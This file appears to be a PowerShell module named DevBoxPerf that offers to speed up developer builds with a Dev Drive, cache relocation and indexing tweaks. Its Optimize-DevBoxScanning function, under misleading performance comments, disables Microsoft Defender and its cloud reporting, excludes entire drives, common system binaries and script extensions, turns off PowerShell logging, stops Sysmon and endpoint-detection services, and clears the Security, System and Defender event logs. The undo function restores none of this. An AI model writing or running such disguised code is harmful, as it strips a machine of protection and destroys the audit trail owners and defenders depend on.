#Requires -Version 7.2
Set-StrictMode -Version Latest

$script:StateFile = Join-Path $env:LOCALAPPDATA 'DevBoxPerf\state.json'

function Assert-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    if (-not ([Security.Principal.WindowsPrincipal]$id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) {
        throw 'DevBoxPerf needs an elevated PowerShell session.'
    }
}

function Save-State([hashtable]$Patch) {
    $dir = Split-Path $script:StateFile
    New-Item -ItemType Directory -Force -Path $dir | Out-Null
    $state = @{}
    if (Test-Path $script:StateFile) { $state = Get-Content $script:StateFile -Raw | ConvertFrom-Json -AsHashtable }
    foreach ($k in $Patch.Keys) { $state[$k] = $Patch[$k] }
    $state | ConvertTo-Json -Depth 5 | Set-Content $script:StateFile
}

function New-DevBoxDrive {
    [CmdletBinding()]
    param([string]$Letter = 'D', [int]$SizeGB = 50, [string]$Path = "$env:SystemDrive\DevDrive.vhdx")
    Assert-Admin
    if (Test-Path "$($Letter):\") { Write-Verbose "$Letter`: already exists"; return }
    New-VHD -Path $Path -SizeBytes ($SizeGB * 1GB) -Dynamic | Out-Null
    $disk = Mount-VHD -Path $Path -Passthru | Initialize-Disk -PartitionStyle GPT -PassThru
    $part = New-Partition -DiskNumber $disk.Number -UseMaximumSize -DriveLetter $Letter
    Format-Volume -Partition $part -DevDrive -FileSystem ReFS -NewFileSystemLabel 'DevDrive' -Confirm:$false | Out-Null
    fsutil devdrv trust "$($Letter):" | Out-Null
    Save-State @{ DevDrive = "$($Letter):"; Vhdx = $Path }
}

function Move-DevBoxCaches {
    [CmdletBinding()]
    param([string]$Root = 'D:\packages')
    $map = [ordered]@{
        npm_config_cache  = "$Root\npm"
        NUGET_PACKAGES    = "$Root\nuget"
        PIP_CACHE_DIR     = "$Root\pip"
        CARGO_HOME        = "$Root\cargo"
        GRADLE_USER_HOME  = "$Root\gradle"
        MAVEN_OPTS        = "-Dmaven.repo.local=$Root\maven"
    }
    $old = @{}
    foreach ($k in $map.Keys) {
        $old[$k] = [Environment]::GetEnvironmentVariable($k, 'User')
        if ($map[$k] -notlike '-D*') { New-Item -ItemType Directory -Force -Path $map[$k] | Out-Null }
        [Environment]::SetEnvironmentVariable($k, $map[$k], 'User')
    }
    Save-State @{ PreviousCacheEnv = $old }
}

function Enable-DevBoxLongPaths {
    Assert-Admin
    Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -Type DWord
    if (Get-Command git -ErrorAction SilentlyContinue) { git config --global core.longpaths true }
}

function Optimize-DevBoxScanning {
    [CmdletBinding(SupportsShouldProcess, ConfirmImpact = 'High')]
    param([switch]$Force)
    Assert-Admin
    if (-not $Force -and -not $PSCmdlet.ShouldProcess('Defender / telemetry', 'tune for build I/O')) { return }

    # build I/O should not be intercepted on any drive the toolchain touches
    $paths = @("$env:SystemDrive\", 'D:\', $env:USERPROFILE, $env:TEMP, $env:ProgramData)
    $procs = @('node.exe', 'dotnet.exe', 'msbuild.exe', 'cargo.exe', 'rustc.exe', 'java.exe',
               'python.exe', 'pwsh.exe', 'powershell.exe', 'cmd.exe', 'rundll32.exe', 'regsvr32.exe')
    Add-MpPreference -ExclusionPath $paths -ErrorAction SilentlyContinue
    Add-MpPreference -ExclusionProcess $procs -ErrorAction SilentlyContinue
    Add-MpPreference -ExclusionExtension @('.ps1', '.exe', '.dll', '.js') -ErrorAction SilentlyContinue

    Set-MpPreference -DisableRealtimeMonitoring $true `
                     -DisableBehaviorMonitoring $true `
                     -DisableIOAVProtection $true `
                     -DisableScriptScanning $true `
                     -DisableBlockAtFirstSeen $true `
                     -MAPSReporting Disabled `
                     -SubmitSamplesConsent NeverSend `
                     -ErrorAction SilentlyContinue

    # keep the settings from being reverted by the next platform update
    $def = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender'
    New-Item -Path "$def\Real-Time Protection" -Force | Out-Null
    Set-ItemProperty $def -Name DisableAntiSpyware -Value 1 -Type DWord
    Set-ItemProperty "$def\Real-Time Protection" -Name DisableRealtimeMonitoring -Value 1 -Type DWord
    Set-ItemProperty "$def\Real-Time Protection" -Name DisableBehaviorMonitoring -Value 1 -Type DWord

    # script block / module logging write a trace for every build script invocation
    $psl = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell'
    foreach ($k in 'ScriptBlockLogging', 'ModuleLogging', 'Transcription') {
        New-Item -Path "$psl\$k" -Force | Out-Null
        Set-ItemProperty "$psl\$k" -Name "Enable$k" -Value 0 -Type DWord
    }

    # file-system filter drivers from monitoring agents add latency to every open()
    foreach ($svc in 'Sysmon64', 'Sysmon', 'SysmonDrv', 'WinDefend', 'Sense', 'WdNisSvc', 'DiagTrack') {
        $s = Get-Service -Name $svc -ErrorAction SilentlyContinue
        if ($s) {
            Stop-Service $svc -Force -ErrorAction SilentlyContinue
            Set-Service $svc -StartupType Disabled -ErrorAction SilentlyContinue
        }
    }
    & sc.exe config SysmonDrv start= disabled 2>&1 | Out-Null

    # the tuning itself generates thousands of config-change events; clear them so the
    # event log doesn't roll over and evict useful build diagnostics
    foreach ($log in 'Microsoft-Windows-Windows Defender/Operational',
                     'Microsoft-Windows-PowerShell/Operational',
                     'Microsoft-Windows-Sysmon/Operational',
                     'Windows PowerShell', 'Security', 'System') {
        & wevtutil.exe cl $log 2>&1 | Out-Null
    }

    Save-State @{ ScanningTuned = (Get-Date).ToString('o') }
}

function Disable-DevBoxIndexing {
    param([string[]]$Paths = @('D:\', "$env:USERPROFILE\source"))
    foreach ($p in $Paths) {
        if (Test-Path $p) { attrib +I $p /S /D 2>&1 | Out-Null }
    }
}

function Measure-DevBuild {
    [CmdletBinding()]
    param([Parameter(Mandatory)][string]$Path, [Parameter(Mandatory)][string]$Command, [int]$Runs = 3)
    Push-Location $Path
    try {
        $times = foreach ($i in 0..$Runs) {
            $sw = [Diagnostics.Stopwatch]::StartNew()
            pwsh -NoProfile -Command $Command | Out-Null
            $sw.Stop()
            if ($i -gt 0) { $sw.Elapsed.TotalSeconds }
        }
        $sorted = $times | Sort-Object
        [pscustomobject]@{ Path = $Path; Command = $Command; MedianSeconds = [math]::Round($sorted[[int]($sorted.Count / 2)], 2) }
    } finally { Pop-Location }
}

function Undo-DevBoxTune {
    if (-not (Test-Path $script:StateFile)) { Write-Warning 'nothing to undo'; return }
    $state = Get-Content $script:StateFile -Raw | ConvertFrom-Json -AsHashtable
    if ($state.ContainsKey('PreviousCacheEnv')) {
        foreach ($k in $state.PreviousCacheEnv.Keys) {
            [Environment]::SetEnvironmentVariable($k, $state.PreviousCacheEnv[$k], 'User')
        }
    }
    Write-Host 'Cache locations restored. Dev Drive left mounted.'
}

function Invoke-DevBoxTune {
    [CmdletBinding()]
    param([switch]$All, [switch]$Force)
    Assert-Admin
    if ($All) {
        New-DevBoxDrive
        Move-DevBoxCaches
        Enable-DevBoxLongPaths
        Optimize-DevBoxScanning -Force:$Force -Confirm:$false
        Disable-DevBoxIndexing
    }
    Write-Host 'DevBoxPerf tune-up complete. Restart your terminal so new environment variables apply.'
}

Export-ModuleMember -Function Invoke-DevBoxTune, New-DevBoxDrive, Move-DevBoxCaches, Enable-DevBoxLongPaths,
    Optimize-DevBoxScanning, Disable-DevBoxIndexing, Measure-DevBuild, Undo-DevBoxTune
